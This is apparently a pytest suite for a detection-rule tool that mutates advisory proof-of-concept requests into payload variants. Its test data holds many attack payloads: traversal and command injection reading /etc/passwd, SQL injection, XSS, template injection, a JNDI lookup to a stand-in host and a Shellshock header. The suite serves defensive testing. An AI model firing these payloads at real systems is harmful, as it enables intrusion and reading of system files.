"""Variants: each mutator changes what it says and nothing else, and knows when the result would be no exploit."""

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ruleforge.cases.anatomy import classes_of, dissect
from ruleforge.cases.payloads import payload_lists, replacements
from ruleforge.cases.significance import endpoint_free
from ruleforge.cases.variants import MAX_VARIANTS, VARIANTS, variants
from ruleforge.errors import UsageError
from ruleforge.events.decoding import percent_decode
from ruleforge.events.places import HttpView
from ruleforge.records.advisory import PocRequest

ROWS: list[dict[str, Any]] = json.loads((Path(__file__).parent / "mutators.json").read_text())
PAYLOAD_CHANGING = frozenset(
    [
        "other_payload",
        "foreign_payload",
        "climb_further",
        "reroll_standins",
        "other_ids",
        "sql_blanks",
        "sql_comments",
        "word_case",
        "encoded_twice",
    ]
)
CLASS_PAYLOADS = {
    "CWE-22": "../../../../etc/passwd",
    "CWE-89": "4' UNION SELECT jam, price FROM larder-- -",
    "CWE-79": '"><script>alert(12)</script>',
    "CWE-78": "jam; cat /etc/passwd",
    "CWE-1336": "{{7*'7'}}",
}


def test_every_mutator_has_an_example() -> None:
    assert {row["mutator"] for row in ROWS} == set(VARIANTS)
    assert len(ROWS) >= 44
    assert sum("invalid" in row for row in ROWS) >= 38


@pytest.mark.parametrize("row", ROWS, ids=lambda row: row["mutator"])
def test_a_mutator_makes_exactly_the_expected_change(
    row: dict[str, Any], make_anatomy: Any, make_advisory: Any
) -> None:
    mutator, anatomy, advisory = VARIANTS[row["mutator"]], make_anatomy(row["request"]), make_advisory(row["request"])
    assert mutator.valid(anatomy, advisory) == ""
    made = mutator.make(anatomy, advisory)[0]
    changes: dict[str, Any] = {}
    for name, value in row["expect"].items():
        if name == "headers":
            changes[name] = tuple((key.encode(), text.encode()) for key, text in value)
        else:
            changes[name] = None if value is None else value.encode()
    assert made == msgspec.structs.replace(anatomy.poc.request, **changes)
    assert made != anatomy.poc.request


@pytest.mark.parametrize("row", [row for row in ROWS if "invalid" in row], ids=lambda row: row["mutator"])
def test_a_mutator_says_why_it_does_not_fit(row: dict[str, Any], make_anatomy: Any, make_advisory: Any) -> None:
    reason = VARIANTS[row["mutator"]].valid(make_anatomy(row["invalid"]), make_advisory(row["invalid"]))
    assert reason == row["reason"] != ""


def test_families_share_no_name_and_no_payload() -> None:
    lists = payload_lists()
    texts = {
        family: {text for contexts in classes.values() for found in contexts.values() for text in found}
        for family, classes in lists.items()
    }
    assert texts["feedback"] & texts["judge"] == set()
    assert min(len(found) for found in texts.values()) >= 150
    assert {mutator.family for _, mutator in VARIANTS.items()} == {"feedback", "judge"}


@pytest.mark.parametrize("family", ["feedback", "judge"])
def test_each_class_has_six_payloads_of_its_own(family: str) -> None:
    for name, contexts in payload_lists()[family].items():
        assert min(len(set(found)) for found in contexts.values()) >= 6, name
    assert len(payload_lists()[family]) == 14


REPLACED = [
    ("traversal", b"../../../../etc/passwd\x00.png", b"../", b"\x00.png"),
    ("traversal", b"/etc/passwd", b"/", b""),
    ("sql_injection", b"12 AND SLEEP(5)", b"12", b""),
    ("sql_injection", b"plum') AND SLEEP(5)-- -", b"plum')", b""),
    ("xss", b'"></textarea><script>alert(1)</script>', b'"></textarea><', b""),
    ("command_injection", b"192.0.2.1; cat /etc/passwd", b"192.0.2.1", b""),
    ("command_injection", b'a"; cat /etc/passwd; "', b'a"', b'"'),
    ("template_injection", b"hi {{7*'7'}} there", b"hi {{", b"}} there"),
    ("jndi", b"a${jndi:ldap://x.example/a}", b"a${", b"}"),
    ("upload_name", b"cat.php.png", b"cat.", b".png"),
    ("url_value", b"http://callback.example/a.txt", b"http", b"/a.txt"),
    ("crlf_injection", b"plum\r\nSet-Cookie: a=b", b"plum\r\n", b""),
]


@pytest.mark.parametrize("family", ["feedback", "judge"])
@pytest.mark.parametrize(("name", "value", "start", "end"), REPLACED)
def test_another_payload_keeps_what_stands_around_it(
    family: str, name: str, value: bytes, start: bytes, end: bytes
) -> None:
    made = replacements(value, name, family)
    assert len(made) >= 5
    assert all(name in classes_of(text) and text != value for text in made)
    assert [text for text in made if not text.endswith(end)] == []
    assert [text for text in made if not text.startswith(start)] == [] or name == "traversal"


def test_a_payload_encoded_twice_stays_encoded_twice() -> None:
    made = replacements(b"..%2f..%2f..%2fetc%2fpasswd", "traversal", "feedback")
    assert made
    assert all(b"%2f" in text and b"/" not in text and b"../.." in percent_decode(text) for text in made)


def test_an_unknown_payload_is_not_exchanged() -> None:
    assert replacements(b"../../plugins/own/settings.txt", "traversal", "feedback") == ()
    assert replacements(b"plum", "sql_injection", "feedback") == ()


def test_an_unknown_family_is_refused(make_anatomy: Any, make_advisory: Any) -> None:
    with pytest.raises(UsageError, match="RF103"):
        variants(make_anatomy({}), make_advisory({}), "oracle")


@given(
    st.sampled_from(sorted(CLASS_PAYLOADS)),
    st.sampled_from(["/larder/list", "/larder/shelf.php", "/a/b.do", "/"]),
    st.sampled_from(["query", "form", "json"]),
    st.sampled_from(["feedback", "judge"]),
)
def test_a_variant_keeps_the_class_and_mostly_the_value(
    make_anatomy: Any, make_advisory: Any, cwe: str, path: str, place: str, family: str
) -> None:
    payload = CLASS_PAYLOADS[cwe]
    coded = "".join(f"%{byte:02x}" if not chr(byte).isalnum() else chr(byte) for byte in payload.encode())
    if place == "json":
        data = {
            "target": path,
            "body": json.dumps({"a": 1, "jam": payload}),
            "headers": [["Content-Type", "application/json"]],
        }
    elif place == "form":
        kind = ["Content-Type", "application/x-www-form-urlencoded"]
        data = {"target": path, "body": f"a=1&jam={coded}", "headers": [kind]}
    else:
        data = {"target": f"{path}?a=1&jam={coded}"}
    anatomy, advisory = make_anatomy(data), make_advisory(data | {"cwes": [cwe]})
    name = b"/jam" if place == "json" else b"jam"
    where = "json" if place == "json" else "args"
    wanted = next(part.classes for part in anatomy.parts if part.name == name)
    made = variants(anatomy, advisory, family)
    assert 4 <= len(made) <= MAX_VARIANTS
    for one in made:
        values = [element.value for element in HttpView(one.request).read(where, name).elements]
        if one.mutator not in PAYLOAD_CHANGING:
            assert payload.encode() in values, one.mutator
        assert any(set(classes_of(value)) & set(wanted) for value in values), one.mutator


def test_variants_are_reproducible_bounded_and_different(make_anatomy: Any, make_advisory: Any) -> None:
    many = "&".join(f"a{number}=1'+UNION+SELECT+{number}--+-" for number in range(30))
    data = {"target": "/larder/list.php?" + many, "cwes": ["CWE-89"], "headers": [["Cookie", "a=1"]]}
    for family in ("feedback", "judge"):
        first, again = (variants(make_anatomy(data), make_advisory(data), family) for _ in range(2))
        assert first == again
        assert 10 <= len(first) <= MAX_VARIANTS
        keys = {(one.request.method, one.request.target, one.request.version, one.request.headers) for one in first}
        assert len(keys) == len({one.request.id for one in first}) == len(first)


def test_the_same_standin_becomes_the_same_text_and_the_host_stays(make_anatomy: Any, make_advisory: Any) -> None:
    data = {"target": "/a?x=rfqzqbzk&y=rfqzqbzk", "body": "z=rfqzqbzk", "standins": ["rfqzqbzk", "shop.example.org"]}
    made = VARIANTS["reroll_standins"].make(make_anatomy(data), make_advisory(data))
    assert len(made) == 2
    for request in made:
        values = {element.value for element in HttpView(request).read("args").elements}
        assert len(values) == 1
        assert values != {b"rfqzqbzk"}
        assert (b"Host", b"shop.example.org") in request.headers


def test_a_standin_within_a_counted_format_keeps_its_length(make_anatomy: Any, make_advisory: Any) -> None:
    data = {"target": "/a", "body": 'O:3:"Jar":1:{s:3:"lid";s:8:"rfqzqbzk";}', "standins": ["rfqzqbzk"]}
    anatomy = make_anatomy(data)
    for request in VARIANTS["reroll_standins"].make(anatomy, make_advisory(data)):
        assert request.body is not None
        assert b"rfqzqbzk" not in request.body
        assert len(request.body) == len(anatomy.poc.request.body)


FREE = [
    ({"target": "/", "cwes": ["CWE-89"]}, True),
    ({"target": "/larder?q=${jndi:ldap://x.example/a}"}, True),
    ({"target": "/cgi-bin/jar", "headers": [["User-Agent", "() { :; }; /bin/cat /etc/passwd"]]}, True),
    ({"target": "/larder/a", "headers": [["Cookie", "jar=1' UNION SELECT 1-- -"]], "cwes": ["CWE-89"]}, True),
    ({"target": "/larder/a?q=1'+UNION+SELECT+1--+-", "cwes": ["CWE-89"]}, False),
    ({"target": "/larder/..%2f..%2f..%2fetc/passwd", "cwes": ["CWE-22"]}, False),
    ({"target": "/larder/a"}, False),
]


@pytest.mark.parametrize(("data", "free"), FREE)
def test_it_is_known_which_attacks_work_on_any_path(
    data: dict[str, Any], free: bool, make_anatomy: Any, make_advisory: Any
) -> None:
    assert endpoint_free(make_anatomy(data), make_advisory(data)) is free


def test_a_broken_request_gives_variants_without_an_error(make_request: Any, make_advisory: Any) -> None:
    for target in ("", "*", "//", "?", "/%", "/a?%&=&&", "http://x", "/a?b=%ff%00"):
        for body in (None, "", "{", "--x", "<a", "a=%"):
            request = make_request(
                {"target": target, "body": body, "headers": [["Content-Type", "multipart/form-data"]]}
            )
            anatomy = dissect(PocRequest(request=request, standins=(b"b%",)))
            for family in ("feedback", "judge"):
                assert len(variants(anatomy, make_advisory({}), family)) <= MAX_VARIANTS
